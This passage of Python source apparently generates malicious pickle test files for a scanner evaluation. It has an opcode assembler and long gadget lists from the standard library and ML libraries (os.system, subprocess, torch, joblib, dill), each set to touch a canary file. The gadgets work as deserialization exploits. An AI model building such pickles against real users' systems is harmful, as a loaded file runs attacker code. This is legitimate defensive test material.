"""Pickles that act when they are loaded, written opcode by opcode: gadgets of many libraries, ways to hide a call, things that go off later.

Nothing here is ever loaded by the evaluation. A file counts as malicious by construction: it calls, constructs or stores for later something that acts on more than its arguments.
Frozen by digest before anything was tuned on it (scan.py, `FROZEN`).
"""

from __future__ import annotations

import random
import struct
from collections.abc import Iterator
from dataclasses import dataclass, field

CANARY = "/tmp/vouchgate-canary/fired"
COMMAND = f"touch {CANARY}"
CODE = f"open({CANARY!r},'w').close()"


@dataclass(frozen=True)
class Item:
    """One file, or one folder by relative path."""

    name: str
    family: str
    """`pickle`, or the format of another family; the pickle family is what runs a pickle when it is opened."""
    technique: str
    content: bytes | dict[str, bytes] = field(repr=False)
    pickled: bool = True
    """Whether it belongs to the pickle family."""


# --- an assembler ------------------------------------------------------------------------------------------------------------------------


def text(value: str, protocol: int = 4) -> bytes:
    raw = value.encode()
    if protocol >= 4 and len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    if protocol >= 1:
        return b"X" + struct.pack("<I", len(raw)) + raw
    return b"V" + value.encode("raw-unicode-escape") + b"\n"


def number(value: int, protocol: int = 4) -> bytes:
    return b"K" + bytes([value]) if protocol and 0 <= value < 256 else b"I%d\n" % value


def plain(value: object, protocol: int = 4) -> bytes:
    """A plain value pushed."""
    if isinstance(value, Raw):
        return value.code
    if value is None:
        return b"N"
    if value is True or value is False:
        return (b"\x88" if value else b"\x89") if protocol >= 2 else (b"I01\n" if value else b"I00\n")
    if isinstance(value, int):
        return number(value, protocol)
    if isinstance(value, float):
        return b"G" + struct.pack(">d", value) if protocol else b"F%r\n" % value
    if isinstance(value, str):
        return text(value, protocol)
    if isinstance(value, bytes):
        return b"C" + bytes([len(value)]) + value if len(value) < 256 else b"B" + struct.pack("<I", len(value)) + value
    if isinstance(value, tuple):
        return b"(" + b"".join(plain(one, protocol) for one in value) + b"t"
    if isinstance(value, list):
        return b"(" + b"".join(plain(one, protocol) for one in value) + b"l"
    if isinstance(value, dict):
        return b"(" + b"".join(plain(one, protocol) for pair in value.items() for one in pair) + b"d"
    raise TypeError(type(value))


@dataclass(frozen=True)
class Raw:
    """Opcodes in the place of a value."""

    code: bytes


def name(module: str, qualified: str, protocol: int = 4) -> bytes:
    """The name pushed."""
    if protocol >= 4:
        return text(module) + text(qualified) + b"\x93"
    return b"c" + f"{module}\n{qualified}\n".encode()


def call(module: str, qualified: str, *arguments: object, protocol: int = 4) -> bytes:
    """REDUCE of a name."""
    return name(module, qualified, protocol) + plain(arguments, protocol) + b"R"


def whole(body: bytes, protocol: int = 4, *, framed: bool = False) -> bytes:
    """A stream: PROTO (from 2 on), a frame where asked, the body, STOP."""
    head = b"\x80" + bytes([protocol]) if protocol >= 2 else b""
    inside = body + b"."
    return head + (b"\x95" + struct.pack("<Q", len(inside)) + inside if framed else inside)


def estimator(module: str, qualified: str, state: dict[str, object], protocol: int = 4) -> bytes:
    """NEWOBJ of a class and BUILD of its attributes."""
    return name(module, qualified, protocol) + b")\x81" + plain(state, protocol) + b"b"


def boom(protocol: int = 4) -> bytes:
    return call("os", "system", COMMAND, protocol=protocol)


SYSTEM = Raw(name("os", "system"))
EVAL = Raw(name("builtins", "eval"))

# --- gadgets: (module, name, arguments) --------------------------------------------------------------------------------------------------

STANDARD: tuple[tuple[str, str, tuple[object, ...]], ...] = (
    ("posix", "posix_spawn", ("/bin/touch", ["touch", CANARY], {})),
    ("os", "posix_spawnp", ("touch", ["touch", CANARY], {})),
    ("_posixsubprocess", "fork_exec", ([b"/bin/touch"], [b"/bin/touch"], True, (), None, None, -1, -1, -1, -1, -1, -1, -1, -1, False, False, -1, None, None, None, -1, None, False)),
    ("subprocess", "call", (["touch", CANARY],)),
    ("subprocess", "check_call", (["touch", CANARY],)),
    ("subprocess", "getstatusoutput", (COMMAND,)),
    ("os", "spawnl", (0, "/bin/touch", "touch", CANARY)),
    ("os", "spawnvp", (0, "touch", ["touch", CANARY])),
    ("os", "execl", ("/bin/touch", "touch", CANARY)),
    ("os", "startfile", (CANARY,)),
    ("os", "mkdir", (CANARY,)),
    ("os", "makedirs", (CANARY,)),
    ("os", "mknod", (CANARY,)),
    ("os", "symlink", ("/etc/passwd", CANARY)),
    ("os", "rename", (CANARY + ".a", CANARY)),
    ("os", "chmod", ("/tmp", 511)),
    ("os", "putenv", ("LD_PRELOAD", "/tmp/x.so")),
    ("os", "kill", (1, 0)),
    ("os", "fdopen", (1, "w")),
    ("posix", "open", (CANARY, 65)),
    ("builtins", "input", ("password: ",)),
    ("builtins", "help", ("os",)),
    ("builtins", "getattr", (Raw(name("builtins", "str")), "format")),
    ("builtins", "setattr", (Raw(name("builtins", "str")), "x", 1)),
    ("builtins", "globals", ()),
    ("builtins", "vars", ()),
    ("builtins", "type", ("X", (), {"__del__": SYSTEM})),
    ("builtins", "map", (SYSTEM, [COMMAND])),
    ("builtins", "filter", (SYSTEM, [COMMAND])),
    ("builtins", "execfile", (CANARY,)),
    ("__builtin__", "eval", (CODE,)),
    ("__builtin__", "apply", (SYSTEM, (COMMAND,))),
    ("__builtin__", "file", (CANARY, "w")),
    ("__builtin__", "reduce", (SYSTEM, [COMMAND, COMMAND])),
    ("commands", "getoutput", (COMMAND,)),
    ("io", "open", (CANARY, "w")),
    ("io", "open_code", ("/etc/passwd",)),
    ("_io", "open", (CANARY, "w")),
    ("codecs", "open", (CANARY, "w")),
    ("pathlib", "Path.touch", (Raw(call("pathlib", "PosixPath", CANARY)),)),
    ("pathlib", "PosixPath.write_text", (Raw(call("pathlib", "PosixPath", CANARY)), "x")),
    ("tempfile", "NamedTemporaryFile", ("w",)),
    ("tempfile", "mkdtemp", ("vouchgate-canary",)),
    ("tempfile", "mkstemp", ("vouchgate-canary",)),
    ("shutil", "copyfile", ("/etc/passwd", CANARY)),
    ("shutil", "move", (CANARY + ".a", CANARY)),
    ("shutil", "unpack_archive", ("/tmp/a.tar", "/")),
    ("shutil", "make_archive", (CANARY, "zip", "/etc")),
    ("shutil", "chown", (CANARY, "root")),
    ("zipfile", "ZipFile", (CANARY, "w")),
    ("tarfile", "open", (CANARY, "w")),
    ("tarfile", "TarFile.open", (CANARY, "w")),
    ("gzip", "open", (CANARY, "w")),
    ("bz2", "BZ2File", (CANARY, "w")),
    ("lzma", "open", (CANARY, "w")),
    ("sqlite3", "connect", (CANARY,)),
    ("_sqlite3", "connect", (CANARY,)),
    ("shelve", "open", (CANARY,)),
    ("dbm.dumb", "open", (CANARY, "c")),
    ("mailbox", "mbox", (CANARY,)),
    ("mailbox", "Maildir", (CANARY,)),
    ("logging", "FileHandler", (CANARY,)),
    ("logging.handlers", "RotatingFileHandler", (CANARY,)),
    ("logging.config", "dictConfig", ({"version": 1, "handlers": {"h": {"()": "os.system", "command": COMMAND}}},)),
    ("logging.config", "fileConfig", (CANARY,)),
    ("logging.config", "listen", (9999,)),
    ("fileinput", "input", ("/etc/passwd",)),
    ("linecache", "getlines", ("/etc/passwd",)),
    ("tokenize", "open", ("/etc/passwd",)),
    ("py_compile", "compile", ("/tmp/x.py",)),
    ("compileall", "compile_dir", ("/tmp",)),
    ("code", "interact", ()),
    ("code", "InteractiveConsole", ()),
    ("codeop", "compile_command", (CODE,)),
    ("ast", "parse", (CODE,)),
    ("types", "FunctionType", (Raw(call("builtins", "compile", CODE, "x", "exec")), {})),
    ("types", "MethodType", (SYSTEM, COMMAND)),
    ("types", "coroutine", (SYSTEM,)),
    ("functools", "reduce", (SYSTEM, [COMMAND])),
    ("functools", "partialmethod", (SYSTEM, COMMAND)),
    ("functools", "cached_property", (SYSTEM,)),
    ("functools", "singledispatch", (SYSTEM,)),
    ("functools", "lru_cache", (SYSTEM,)),
    ("itertools", "starmap", (SYSTEM, [(COMMAND,)])),
    ("itertools", "accumulate", ([COMMAND, COMMAND], SYSTEM)),
    ("operator", "call", (SYSTEM, COMMAND)),
    ("operator", "attrgetter", ("__globals__",)),
    ("_operator", "call", (SYSTEM, COMMAND)),
    ("pkgutil", "resolve_name", ("os:system",)),
    ("pkgutil", "get_data", ("os", "os.py")),
    ("pkgutil", "walk_packages", ()),
    ("importlib", "reload", (Raw(name("os", "path")),)),
    ("importlib", "__import__", ("os",)),
    ("importlib._bootstrap", "_gcd_import", ("os",)),
    ("importlib.util", "spec_from_file_location", ("x", "/tmp/x.py")),
    ("importlib.machinery", "SourceFileLoader", ("x", "/tmp/x.py")),
    ("importlib.machinery", "ExtensionFileLoader", ("x", "/tmp/x.so")),
    ("imp", "load_source", ("x", "/tmp/x.py")),
    ("imp", "load_dynamic", ("x", "/tmp/x.so")),
    ("_imp", "create_dynamic", ("x",)),
    ("zipimport", "zipimporter", ("/tmp/x.zip",)),
    ("runpy", "run_module", ("antigravity",)),
    ("site", "addsitedir", ("/tmp",)),
    ("site", "execsitecustomize", ()),
    ("pydoc", "safeimport", ("os",)),
    ("pydoc", "browse", ()),
    ("pydoc", "tempfilepager", ("x", "touch " + CANARY)),
    ("pydoc", "pipe_pager", ("x", COMMAND)),
    ("inspect", "getattr_static", (SYSTEM, "x")),
    ("typing", "get_type_hints", (SYSTEM,)),
    ("typing", "ForwardRef", (CODE,)),
    ("dataclasses", "make_dataclass", ("X", ["a"])),
    ("weakref", "finalize", (SYSTEM, SYSTEM, COMMAND)),
    ("atexit", "register", (SYSTEM, COMMAND)),
    ("threading", "Timer", (0.1, SYSTEM, [COMMAND])),
    ("threading", "Thread", (None, SYSTEM, None, [COMMAND])),
    ("_thread", "start_new_thread", (SYSTEM, (COMMAND,))),
    ("multiprocessing", "Process", (None, SYSTEM, None, [COMMAND])),
    ("multiprocessing.util", "spawnv_passfds", ("/bin/touch", [b"touch", CANARY.encode()], ())),
    ("multiprocessing.popen_fork", "Popen", (None,)),
    ("multiprocessing.connection", "Client", (("127.0.0.1", 9),)),
    ("multiprocessing.reduction", "_rebuild_partial", (SYSTEM, (COMMAND,), {})),
    ("multiprocessing.reduction", "rebuild_connection", (1, True, True)),
    ("multiprocessing.managers", "RebuildProxy", (SYSTEM, 1, 2, {})),
    ("multiprocessing.heap", "rebuild_arena", (100, 1)),
    ("concurrent.futures", "ProcessPoolExecutor", (1,)),
    ("concurrent.futures.thread", "ThreadPoolExecutor", (1, "", SYSTEM, (COMMAND,))),
    ("concurrent.futures.thread", "_WorkItem.run", ()),
    ("asyncio", "run", (1,)),
    ("asyncio.subprocess", "create_subprocess_shell", (COMMAND,)),
    ("asyncio.events", "Handle._run", ()),
    ("asyncio.base_events", "BaseEventLoop.run_in_executor", (None, None, SYSTEM, COMMAND)),
    ("signal", "signal", (14, SYSTEM)),
    ("signal", "alarm", (1,)),
    ("signal", "raise_signal", (9,)),
    ("faulthandler", "_sigsegv", ()),
    ("resource", "setrlimit", (7, (0, 0))),
    ("sys", "setprofile", (SYSTEM,)),
    ("sys", "settrace", (SYSTEM,)),
    ("sys", "addaudithook", (SYSTEM,)),
    ("sys", "setrecursionlimit", (10,)),
    ("sys", "_getframe", ()),
    ("ctypes", "cdll.LoadLibrary", ("/tmp/x.so",)),
    ("ctypes", "string_at", (0,)),
    ("ctypes", "PyDLL", ("/tmp/x.so",)),
    ("ctypes.util", "find_library", ("x",)),
    ("_ctypes", "dlopen", ("/tmp/x.so", 1)),
    ("mmap", "mmap", (-1, 1)),
    ("http.client", "HTTPConnection", ("127.0.0.1",)),
    ("http.server", "test", ()),
    ("urllib.request", "urlretrieve", ("file:///etc/passwd", CANARY)),
    ("urllib.request", "build_opener", ()),
    ("urllib", "urlopen", ("http://127.0.0.1:9/",)),
    ("ftplib", "FTP", ("127.0.0.1",)),
    ("smtplib", "SMTP", ("127.0.0.1",)),
    ("imaplib", "IMAP4_stream", (COMMAND,)),
    ("poplib", "POP3", ("127.0.0.1",)),
    ("nntplib", "NNTP", ("127.0.0.1",)),
    ("telnetlib", "Telnet", ("127.0.0.1",)),
    ("xmlrpc.client", "ServerProxy", ("http://127.0.0.1",)),
    ("socket", "socket", ()),
    ("_socket", "socket", ()),
    ("socket", "gethostbyname", ("localhost",)),
    ("socketserver", "TCPServer", (("127.0.0.1", 0), SYSTEM)),
    ("ssl", "get_server_certificate", (("127.0.0.1", 1),)),
    ("wsgiref.simple_server", "make_server", ("", 0, SYSTEM)),
    ("pipes", "Template", ()),
    ("crypt", "crypt", ("x",)),
    ("getpass", "getpass", ("password: ",)),
    ("pty", "fork", ()),
    ("tty", "setraw", (0,)),
    ("readline", "write_history_file", (CANARY,)),
    ("rlcompleter", "Completer.attr_matches", (None, "os.system('x').y")),
    ("distutils.spawn", "spawn", (["touch", CANARY],)),
    ("distutils.core", "run_setup", ("/tmp/setup.py",)),
    ("distutils.ccompiler", "new_compiler", ()),
    ("distutils.dir_util", "mkpath", (CANARY,)),
    ("ensurepip", "bootstrap", ()),
    ("lib2to3.main", "main", ("x",)),
    ("lib2to3.refactor", "RefactoringTool", ([],)),
    ("test.support.script_helper", "assert_python_ok", ("-c", CODE)),
    ("test.support.os_helper", "create_empty_file", (CANARY,)),
    ("unittest.mock", "_importer", ("os.system",)),
    ("unittest.mock", "patch", ("os.system",)),
    ("unittest.loader", "TestLoader.loadTestsFromName", (None, "os.system")),
    ("doctest", "testsource", ("os", "x")),
    ("doctest", "run_docstring_examples", (SYSTEM, {})),
    ("trace", "main", ()),
    ("bdb", "Bdb.runcall", (None, SYSTEM, COMMAND)),
    ("cProfile", "Profile.runcall", (None, SYSTEM, COMMAND)),
    ("timeit", "repeat", (CODE,)),
    ("timeit", "Timer", (CODE,)),
    ("tracemalloc", "start", ()),
    ("idlelib.run", "handle_tk_events", ()),
    ("idlelib.config", "IdleConf", ()),
    ("idlelib.pyshell", "main", ()),
    ("idlelib.outwin", "file_line_helper", ("x",)),
    ("turtledemo.__main__", "main", ()),
    ("tkinter", "Tk", ()),
    ("_tkinter", "create", ()),
    ("webbrowser", "get", (COMMAND,)),
    ("webbrowser", "GenericBrowser", ("touch",)),
    ("antigravity", "geohash", (1.0, 2.0, b"x")),
    ("platform", "popen", (COMMAND,)),
    ("platform", "_syscmd_file", ("/bin/ls",)),
    ("sysconfig", "_generate_posix_vars", ()),
    ("_aix_support", "_read_cmd_output", (COMMAND,)),
    ("_bootsubprocess", "check_output", ([COMMAND],)),
    ("_osx_support", "_read_output", (COMMAND,)),
    ("_pyrepl.pager", "pipe_pager", ("x", COMMAND)),
    ("uuid", "_get_command_stdout", ("touch", CANARY)),
    ("marshal", "load", (1,)),
    ("_pickle", "Unpickler", (b"",)),
    ("pickle", "_loads", (b"",)),
    ("pickle", "Unpickler", (b"",)),
    ("copyreg", "add_extension", ("os", "system", 1)),
    ("copyreg", "pickle", (Raw(name("builtins", "str")), SYSTEM)),
    ("copyreg", "__newobj__", (Raw(name("subprocess", "Popen")), ["touch", CANARY])),
    ("copyreg", "_reconstructor", (Raw(name("subprocess", "Popen")), Raw(name("builtins", "object")), None)),
    ("xml.etree.ElementTree", "parse", ("/etc/passwd",)),
    ("configparser", "ConfigParser.read", (None, "/etc/passwd")),
    ("netrc", "netrc", ("/etc/passwd",)),
    ("cgitb", "enable", ()),
    ("smtpd", "SMTPServer", (("127.0.0.1", 0), None)),
    ("asyncore", "dispatcher", ()),
    ("ntpath", "realpath", ("/etc",)),
    ("posixpath", "realpath", ("/etc/passwd",)),
    ("genericpath", "exists", ("/etc/passwd",)),
    ("glob", "glob", ("/etc/*",)),
    ("os", "listdir", ("/",)),
    ("os", "getenv", ("HOME",)),
    ("os", "walk", ("/",)),
    ("time", "sleep", (3600,)),
    ("_xxsubinterpreters", "run_string", (0, CODE)),
    ("_testcapi", "run_in_subinterp", (CODE,)),
    ("zoneinfo", "ZoneInfo", ("../../../etc/passwd",)),
    ("mimetypes", "init", (["/etc/passwd"],)),
    ("locale", "bindtextdomain", ("x", "/tmp")),
    ("gettext", "translation", ("x", "/tmp")),
    ("curses", "initscr", ()),
    ("symtable", "symtable", (CODE, "x", "exec")),
)  # fmt: skip

LIBRARIES: tuple[tuple[str, str, tuple[object, ...]], ...] = (
    ("numpy", "load", ("/tmp/x.npy",)),
    ("numpy", "fromfile", ("/etc/passwd",)),
    ("numpy", "memmap", (CANARY, "uint8", "w+")),
    ("numpy", "savetxt", (CANARY, [1])),
    ("numpy", "genfromtxt", ("/etc/passwd",)),
    ("numpy", "loadtxt", ("/etc/passwd",)),
    ("numpy", "DataSource", ("/tmp",)),
    ("numpy.lib._datasource", "open", ("http://127.0.0.1/",)),
    ("numpy.lib.npyio", "NpzFile", (1,)),
    ("numpy.lib.format", "open_memmap", (CANARY, "w+")),
    ("numpy.lib.utils", "safe_eval", (CODE,)),
    ("numpy.f2py", "compile", ("x",)),
    ("numpy.f2py.crackfortran", "myeval", (CODE,)),
    ("numpy.f2py.crackfortran", "_eval_length", (CODE, {})),
    ("numpy.f2py.auxfuncs", "getargs2", ({},)),
    ("numpy.f2py.diagnose", "run_command", (COMMAND,)),
    ("numpy.f2py.capi_maps", "load_f2cmap_file", (CANARY,)),
    ("numpy.distutils.exec_command", "exec_command", (COMMAND,)),
    ("numpy.distutils.cpuinfo", "getoutput", (COMMAND,)),
    ("numpy.distutils.misc_util", "exec_mod_from_location", ("x", "/tmp/x.py")),
    ("numpy.ctypeslib", "load_library", ("x", "/tmp")),
    ("numpy.testing", "rundocs", ("/tmp/x.py",)),
    ("numpy.testing", "measure", (CODE,)),
    ("numpy.testing._private.extbuild", "build_and_import_extension", ("x", [])),
    ("numpy.core.records", "fromfile", ("/etc/passwd",)),
    ("numpy", "vectorize", (SYSTEM,)),
    ("numpy", "frompyfunc", (SYSTEM, 1, 1)),
    ("numpy", "apply_along_axis", (SYSTEM, 0, [COMMAND])),
    ("numpy", "fromfunction", (SYSTEM, (1,))),
    ("numpy", "piecewise", ([1.0], [True], [SYSTEM])),
    ("numpy.core.multiarray", "set_string_function", (SYSTEM,)),
    ("scipy.io", "loadmat", ("/etc/passwd",)),
    ("scipy.io", "netcdf_file", (CANARY, "w")),
    ("scipy.io.wavfile", "read", ("/etc/passwd",)),
    ("scipy.io", "FortranFile", (CANARY, "w")),
    ("scipy.sparse", "load_npz", ("/tmp/x.npz",)),
    ("scipy._lib._ccallback", "LowLevelCallable", (1,)),
    ("scipy.optimize", "minimize", (SYSTEM, [1.0])),
    ("scipy.misc", "derivative", (SYSTEM, 1.0)),
    ("scipy.datasets", "face", ()),
    ("pandas", "eval", ("@__builtins__",)),
    ("pandas", "read_pickle", ("/tmp/x.pkl",)),
    ("pandas", "read_csv", ("http://127.0.0.1:9/",)),
    ("pandas", "read_hdf", ("/tmp/x.h5",)),
    ("pandas", "read_sql", ("select 1", "sqlite:////tmp/x")),
    ("pandas", "ExcelWriter", (CANARY + ".xlsx",)),
    ("pandas", "HDFStore", (CANARY,)),
    ("pandas.io.common", "get_handle", (CANARY, "w")),
    ("pandas.io.pickle", "to_pickle", (1, CANARY)),
    ("pandas.core.computation.eval", "eval", ("1",)),
    ("pandas.core.computation.expr", "PythonExprVisitor", ()),
    ("pandas.core.frame", "DataFrame.query", ({}, "@x")),
    ("pandas.core.frame", "DataFrame.to_csv", ({}, CANARY)),
    ("pandas.core.frame", "DataFrame.apply", ({}, SYSTEM)),
    ("pandas.io.clipboard", "paste", ()),
    ("pandas.compat._optional", "import_optional_dependency", ("os",)),
    ("pandas.compat.pickle_compat", "load", (1,)),
    ("pandas.io.sql", "execute", ("x",)),
    ("torch", "load", ("/tmp/x.pt",)),
    ("torch", "save", (1, CANARY)),
    ("torch", "from_file", ("/etc/passwd",)),
    ("torch", "compile", (SYSTEM,)),
    ("torch.hub", "load", ("x/y", "z")),
    ("torch.hub", "load_state_dict_from_url", ("http://127.0.0.1/",)),
    ("torch.hub", "_import_module", ("x", "/tmp/x.py")),
    ("torch.hub", "download_url_to_file", ("http://127.0.0.1/", CANARY)),
    ("torch.jit", "load", ("/tmp/x.pt",)),
    ("torch.jit.frontend", "get_jit_def", (SYSTEM, "x")),
    ("torch.jit._serialization", "load", ("/tmp/x.pt",)),
    ("torch.utils.cpp_extension", "load_inline", ("x", "y")),
    ("torch.utils.cpp_extension", "load", ("x", ["y"])),
    ("torch.utils.cpp_extension", "_run_ninja_build", ("/tmp", True, "x")),
    ("torch.ops", "load_library", ("/tmp/x.so",)),
    ("torch._ops", "_Ops.load_library", (None, "/tmp/x.so")),
    ("torch._classes", "_Classes.load_library", (None, "/tmp/x.so")),
    ("torch.package", "PackageImporter", ("/tmp/x",)),
    ("torch.package.importer", "_SysImporter", ()),
    ("torch.fx.graph_module", "_deserialize_graph_module", (SYSTEM, {})),
    ("torch.fx.graph_module", "_exec_with_source", (CODE, {})),
    ("torch.fx.graph_module", "_forward_from_src", (CODE, {})),
    ("torch.fx.graph_module", "reduce_graph_module", ({"_code": CODE}, CODE)),
    ("torch.fx.graph_module", "reduce_package_graph_module", (SYSTEM, {}, "x")),
    ("torch.fx.experimental.proxy_tensor", "make_fx", (SYSTEM,)),
    ("torch._dynamo.eval_frame", "optimize", ()),
    ("torch._dynamo.utils", "import_submodule", ("os",)),
    ("torch._dynamo.testing", "standard_test", ()),
    ("torch._inductor.codecache", "PyCodeCache.load", (CODE,)),
    ("torch._inductor.codecache", "CppCodeCache.load", (CODE,)),
    ("torch._inductor.utils", "run_and_get_code", (SYSTEM, COMMAND)),
    ("torch._inductor.runtime.compile_tasks", "_reload_python_module", ("x", "/tmp/x.py")),
    ("torch._inductor.compile_worker.subproc_pool", "SubprocPool", (1,)),
    ("torch._C._distributed_rpc", "PythonUDF", ()),
    ("torch.distributed.rpc.internal", "_run_function", (b"x",)),
    ("torch.distributed.run", "main", ([],)),
    ("torch.distributed.elastic.multiprocessing.subprocess_handler", "SubprocessHandler", ("touch", (CANARY,), {}, "", "", 0)),
    ("torch.distributed.launcher.api", "launch_agent", (1, SYSTEM, [COMMAND])),
    ("torch.multiprocessing.spawn", "spawn", (SYSTEM, (COMMAND,))),
    ("torch.multiprocessing.reductions", "rebuild_storage_filename", (1, "x", "/etc/passwd", 1)),
    ("torch.multiprocessing.reductions", "rebuild_storage_fd", (1, 1, 1)),
    ("torch.multiprocessing.reductions", "rebuild_cuda_tensor", (1,)),
    ("torch.storage", "UntypedStorage.from_file", ("/etc/passwd", False, 1)),
    ("torch.storage", "_load_from_bytes", (b"x",)),
    ("torch.storage", "os.system", (COMMAND,)),
    ("torch.nn.modules.module", "Module.apply", (None, SYSTEM)),
    ("torch.utils.model_zoo", "load_url", ("http://127.0.0.1/",)),
    ("torch.utils.data.datapipes.iter.callable", "MapperIterDataPipe", ([COMMAND], SYSTEM)),
    ("torch.utils.data.dataloader", "DataLoader", ([COMMAND],)),
    ("torch.utils._content_store", "ContentStoreReader", ("/tmp",)),
    ("torch.utils.benchmark", "Timer", (CODE,)),
    ("torch.utils.benchmark.utils.timer", "timeit.Timer", (CODE,)),
    ("torch.utils.tensorboard", "SummaryWriter", (CANARY,)),
    ("torch.utils.show_pickle", "main", ([],)),
    ("torch.utils.bundled_inputs", "bundle_inputs", (1, 2)),
    ("torch.testing._internal.common_utils", "shell", ([COMMAND],)),
    ("torch.testing._internal.distributed.rpc.rpc_test", "x", ()),
    ("torch.contrib._tensorboard_vis", "visualize", (1,)),
    ("torch.onnx", "export", (1, 2, CANARY)),
    ("torch.backends._coreml.preprocess", "x", ()),
    ("torch.cuda._memory_viz", "_main", ()),
    ("torch.profiler.profiler", "_KinetoProfile.export_stacks", (None, CANARY)),
    ("torch._tensor", "_rebuild_from_type", (SYSTEM, 1, (COMMAND,), {})),
    ("torch._tensor", "_rebuild_from_type_v2", (SYSTEM, SYSTEM, (COMMAND,), None)),
    ("torch._utils", "_rebuild_wrapper_subclass", (SYSTEM,)),
    ("torch._utils", "_import_dotted_name", ("os.system",)),
    ("torch._utils", "_rebuild_parameter_with_state", (1, True, {}, {"__class__": SYSTEM})),
    ("torch._jit_internal", "_resolve_lookup", ()),
    ("torch.library", "impl", ("x",)),
    ("joblib", "load", ("/tmp/x",)),
    ("joblib", "dump", (1, CANARY)),
    ("joblib.numpy_pickle", "load", ("/tmp/x",)),
    ("joblib.numpy_pickle", "_unpickle", (1,)),
    ("joblib.numpy_pickle_compat", "NDArrayWrapper", ("/etc/passwd", SYSTEM)),
    ("joblib.numpy_pickle_compat", "load_compatibility", ("/tmp/x",)),
    ("joblib.memory", "Memory", (CANARY,)),
    ("joblib.memory", "MemorizedFunc", (SYSTEM, CANARY)),
    ("joblib._memmapping_reducer", "_strided_from_memmap", (CANARY, "u1", "w+", "C", 0, (1,), None, 1, False)),
    ("joblib._memmapping_reducer", "make_memmap", (CANARY, "u1", "w+")),
    ("joblib.parallel", "BatchedCalls", ([], None)),
    ("joblib.parallel", "Parallel", (1,)),
    ("joblib.externals.cloudpickle", "loads", (b"x",)),
    ("joblib.externals.cloudpickle.cloudpickle", "subimport", ("os",)),
    ("joblib.externals.loky.backend.popen_loky_posix", "Popen", (1,)),
    ("joblib.externals.loky.backend.utils", "_recursive_terminate", (1,)),
    ("cloudpickle", "loads", (b"x",)),
    ("cloudpickle.cloudpickle", "subimport", ("os",)),
    ("cloudpickle.cloudpickle", "dynamic_subimport", ("x", {})),
    ("cloudpickle.cloudpickle", "_make_function", (1, {}, None, None, None)),
    ("cloudpickle.cloudpickle", "_make_skeleton_class", (1, 2, 3, 4, 5, 6)),
    ("cloudpickle.cloudpickle", "_builtin_type", ("FunctionType",)),
    ("dill", "loads", (b"x",)),
    ("dill", "load_module", ("/tmp/x",)),
    ("dill._dill", "_create_function", (1, {})),
    ("dill._dill", "_create_code", (1,)),
    ("dill._dill", "_import_module", ("os.system",)),
    ("dill._dill", "_load_type", ("FunctionType",)),
    ("dill._dill", "_eval_repr", (CODE,)),
    ("dill._dill", "_create_filehandle", (CANARY, "w", 0, False, "x", False, False, b"")),
    ("dill._dill", "_get_attr", (1, "x")),
    ("dill._dill", "_setitems", ({}, {})),
    ("dill.source", "getsource", (SYSTEM,)),
    ("dill.temp", "load_source", ("x",)),
    ("sklearn.utils._testing", "assert_run_python_script_without_output", (CODE,)),
    ("sklearn.datasets", "load_files", ("/etc",)),
    ("sklearn.datasets", "fetch_openml", ("x",)),
    ("sklearn.datasets", "load_svmlight_file", ("/etc/passwd",)),
    ("sklearn.externals.joblib", "load", ("/tmp/x",)),
    ("sklearn.utils.fixes", "os.system", (COMMAND,)),
    ("sklearn.utils.metaestimators", "_IffHasAttrDescriptor", (SYSTEM, "x")),
    ("sklearn.utils._user_interface", "_print_elapsed_time", ("x",)),
    ("sklearn.utils.parallel", "_FuncWrapper", (SYSTEM,)),
    ("sklearn.utils._available_if", "_AvailableIfDescriptor", (SYSTEM, SYSTEM, "x")),
    ("xgboost", "Booster", ({}, (), "/tmp/x.json")),
    ("xgboost.core", "Booster.load_model", (None, "/etc/passwd")),
    ("xgboost", "DMatrix", ("/etc/passwd",)),
    ("xgboost.core", "_load_lib", ()),
    ("xgboost.dask", "train", (1, 2, 3)),
    ("lightgbm", "Booster", ({}, None, "/etc/passwd")),
    ("lightgbm.basic", "Booster.save_model", (None, CANARY)),
    ("lightgbm.libpath", "_find_lib_path", ()),
    ("catboost", "CatBoost.load_model", (None, "/etc/passwd")),
    ("catboost", "Pool", ("/etc/passwd",)),
    ("statsmodels.iolib.smpickle", "load_pickle", ("/tmp/x",)),
    ("statsmodels.tools.web", "webdoc", ()),
    ("statsmodels.datasets.utils", "get_rdataset", ("x",)),
    ("patsy.eval", "EvalEnvironment.eval", (None, CODE)),
    ("patsy.eval", "EvalFactor", (CODE,)),
    ("patsy", "dmatrix", (CODE, {})),
    ("formulaic", "model_matrix", (CODE, {})),
    ("transformers", "pipeline", ("x",)),
    ("transformers", "AutoModel.from_pretrained", ("/tmp",)),
    ("transformers.dynamic_module_utils", "get_class_from_dynamic_module", ("x.y", "/tmp")),
    ("transformers.dynamic_module_utils", "get_class_in_module", ("x", "/tmp/x.py")),
    ("transformers.utils.import_utils", "_LazyModule", ("os", "/tmp", {})),
    ("tokenizers", "Tokenizer.from_file", ("/etc/passwd",)),
    ("huggingface_hub", "hf_hub_download", ("x", "y")),
    ("huggingface_hub.inference._providers", "x", ()),
    ("datasets", "load_dataset", ("/tmp",)),
    ("accelerate.commands.launch", "main", ()),
    ("peft", "PeftModel.from_pretrained", (1, "x")),
    ("diffusers", "DiffusionPipeline.from_pretrained", ("x",)),
    ("tensorflow", "io.write_file", (CANARY, "x")),
    ("tensorflow.python.framework.load_library", "load_op_library", ("/tmp/x.so",)),
    ("tensorflow.python.ops.script_ops", "py_func", (SYSTEM,)),
    ("keras.models", "load_model", ("/tmp/x",)),
    ("keras.src.utils.file_utils", "get_file", ("x", "http://127.0.0.1/")),
    ("keras.src.saving.serialization_lib", "deserialize_keras_object", ({},)),
    ("keras.src.utils.python_utils", "func_load", ("x",)),
    ("keras.src.layers.core.lambda_layer", "Lambda", (SYSTEM,)),
    ("jax.experimental.jax2tf", "call_tf", (SYSTEM,)),
    ("jax", "pure_callback", (SYSTEM, 1)),
    ("flax.serialization", "msgpack_restore", (b"x",)),
    ("matplotlib.pyplot", "savefig", (CANARY,)),
    ("matplotlib.cbook", "get_sample_data", ("x",)),
    ("matplotlib.backends.backend_pgf", "LatexManager", ()),
    ("PIL.Image", "open", ("/etc/passwd",)),
    ("PIL.ImageMath", "eval", (CODE,)),
    ("PIL.ImageShow", "show", (1,)),
    ("PIL.EpsImagePlugin", "Ghostscript", (1, 2, 3)),
    ("cv2", "imwrite", (CANARY, 1)),
    ("yaml", "unsafe_load", ("x",)),
    ("yaml", "load", ("x",)),
    ("ruamel.yaml", "YAML", ()),
    ("jinja2", "Template", ("{{ 1 }}",)),
    ("jinja2.environment", "Environment.from_string", (None, "x")),
